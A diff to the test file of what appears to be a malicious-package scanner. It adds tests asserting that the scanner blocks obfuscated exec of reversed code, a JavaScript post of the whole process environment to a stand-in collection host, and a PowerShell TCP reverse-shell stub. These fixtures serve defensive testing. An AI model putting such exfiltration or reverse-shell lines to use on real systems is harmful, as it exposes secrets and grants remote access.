@@ -542,3 +542,23 @@ def test_a_setup_py_install_command_calling_a_stealing_helper_is_an_install_hook
     )
     report = _package(tmp_path, "cmd", {"setup.py": setup})
     assert "install_hook" in {f["category"] for f in report["findings"]}
+
+
+def test_code_stored_backwards_and_executed_blocks(tmp_path: Path) -> None:
+    code = "import os\n\nBODY = ')\"di\"(metsys.so'\nexec(BODY[::-1])\n"
+    assert _decision(_package(tmp_path, "rev", {"r/__init__.py": code})) == "BLOCK"
+
+
+def test_the_whole_environment_as_a_request_body_blocks(tmp_path: Path) -> None:
+    code = (
+        "const axios = require('axios');\n"
+        "axios.post('https://collect.example.invalid/e', process.env).catch(() => {});\n"
+    )
+    assert _decision(_package(tmp_path, "envpost", {"index.js": code})) == "BLOCK"
+
+
+def test_a_powershell_tcp_client_shell_blocks(tmp_path: Path) -> None:
+    script = (
+        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5', 4444)\n$s = $c.GetStream()\n"
+    )
+    assert _decision(_package(tmp_path, "psrev", {"tools/init.ps1": script})) == "BLOCK"
